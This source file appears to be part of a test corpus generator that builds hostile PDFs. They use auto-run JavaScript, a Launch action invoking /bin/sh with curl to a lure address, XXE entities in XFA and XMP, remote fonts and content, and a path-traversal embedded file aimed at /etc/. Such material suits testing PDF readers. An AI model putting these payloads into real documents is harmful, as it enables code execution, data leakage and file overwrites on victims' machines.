"""PDFs that want something done: scripts to run, addresses to ask, files to open, write or send."""

from __future__ import annotations

from random import Random

from hostile_files.making import PDF, READABLE, Lures, Maker, Shelf
from hostile_files.pdf_writing import leaflet, stream

SHELF = Shelf("pdf action", PDF)

_ACTIONS = {
    "a script": b"/S/JavaScript/JS(this.submitForm\\('%(url)b'\\); app.launchURL\\('%(url)b'\\);)",
    "a program": b"/S/Launch/F<</Type/Filespec/F(/bin/sh)/UF(/bin/sh)>>/Unix(curl %(url)b)",
    "an address": b"/S/URI/URI(%(url)b)",
    "another file": b"/S/GoToR/F<</FS/URL/F(%(url)b)>>/D[0/Fit]/NewWindow true",
    "a file within": b"/S/GoToE/F<</FS/URL/F(%(url)b)>>/T<</R/C/N(x)>>",
    "a form to send": b"/S/SubmitForm/F<</FS/URL/F(%(url)b)>>/Flags 4",
    "data to take in": b"/S/ImportData/F<</FS/URL/F(%(url)b)>>",
    "a film": b"/S/Rendition/OP 0/R<</S/MR/C<</S/MCD/CT(video/mp4)/D<</FS/URL/F(%(url)b)>>>>>>",
    "a sound": b"/S/Sound/Sound<</FS/URL/F(%(url)b)/R 8000>>",
    "a thread": b"/S/Thread/F<</FS/URL/F(%(url)b)>>/D 0",
}


def _doing(action: bytes) -> Maker:
    """When the file is opened, when the page is, and when somebody clicks."""

    def make(dice: Random, lures: Lures) -> bytes:
        what = action % {b"url": lures.at(f"action-{dice.randint(0, 999)}")}
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<<%b>>/AA<</PO<<%b>>/E<<%b>>>>>>" % (what, what, what)
        return leaflet(
            catalog=b"/OpenAction<<%b>>/AA<</WC<<%b>>/DS<<%b>>>>" % (what, what, what),
            page=b"/AA<</O<<%b>>>>/Annots[6 0 R]" % what,
            more={6: link},
        )

    return make


for name, action in _ACTIONS.items():
    SHELF.put(name, _doing(action), READABLE)


@SHELF.add(READABLE)
def scripts_by_name(dice: Random, lures: Lures) -> bytes:
    script = b"<</S/JavaScript/JS(while \\(true\\) { app.launchURL\\('%b'\\); })>>" % lures.at("names")
    return leaflet(catalog=b"/Names<</JavaScript<</Names[(a)%b]>>>>" % script)


@SHELF.add(READABLE)
def a_content_that_lies_elsewhere(dice: Random, lures: Lures) -> bytes:
    away = b"/F<</FS/URL/F(%b)>>/FFilter/FlateDecode" % lures.at("content")
    image = stream(
        b"", about=b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8" + away
    )
    return leaflet(b"q 99 0 0 99 9 9 cm /I Do Q", resources=b"/XObject<</I 6 0 R>>", more={6: image})


@SHELF.add(READABLE)
def a_page_that_is_a_page_of_another_file(dice: Random, lures: Lures) -> bytes:
    about = b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Ref<</F<</FS/URL/F(%b)>>/Page 0>>" % lures.at("reference")
    return leaflet(b"/X Do", resources=b"/XObject<</X 6 0 R>>", more={6: stream(b"0 0 9 9 re f", about=about)})


@SHELF.add(READABLE)
def files_to_be_unpacked_above(dice: Random, lures: Lures) -> bytes:
    name = b"../" * dice.randint(3, 12) + lures.word.encode()
    kept = stream(b"#!/bin/sh\n", "FlateDecode", about=b"/Type/EmbeddedFile")
    spec = b"<</Type/Filespec/F(%b)/UF(/etc/%b)/EF<</F 6 0 R>>>>" % (name, lures.word.encode())
    return leaflet(catalog=b"/Names<</EmbeddedFiles<</Names[(a)%b]>>>>" % spec, more={6: kept})


@SHELF.add(READABLE)
def a_form_in_a_language_that_fetches(dice: Random, lures: Lures) -> bytes:
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%b">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
        b'<template><subform><event activity="initialize"><script contentType="application/x-javascript">'
        b"xfa.host.gotoURL('%b');</script></event></subform></template>&e;</xdp:xdp>"
    ) % (lures.at("xfa-entity"), lures.at("xfa-script"))
    return leaflet(catalog=b"/AcroForm<</Fields[]/XFA 6 0 R>>/NeedsRendering true", more={6: stream(xml)})


@SHELF.add(READABLE)
def a_description_with_entities_from_outside(dice: Random, lures: Lures) -> bytes:
    xml = b'<!DOCTYPE x [<!ENTITY %% e SYSTEM "%b">%%e;]><x:xmpmeta xmlns:x="adobe:ns:meta/"/>' % lures.at("xmp")
    return leaflet(catalog=b"/Metadata 6 0 R", more={6: stream(xml, about=b"/Type/Metadata/Subtype/XML")})


@SHELF.add(READABLE)
def a_font_that_lies_elsewhere(dice: Random, lures: Lures) -> bytes:
    away = stream(b"", about=b"/F<</FS/URL/F(%b)>>" % lures.at("font"))
    described = b"<</Type/FontDescriptor/FontName/Odd/Flags 4/FontFile2 6 0 R/FontBBox[0 0 9 9]>>"
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/Odd/FirstChar 65/LastChar 65/Widths[600]/FontDescriptor 7 0 R>>"
    objects = {6: away, 7: described, 8: font}
    return leaflet(b"BT /G 12 Tf 9 9 Td (A) Tj ET", page=b"", more=objects).replace(b"/F 5 0 R", b"/G 8 0 R/F 5 0 R")
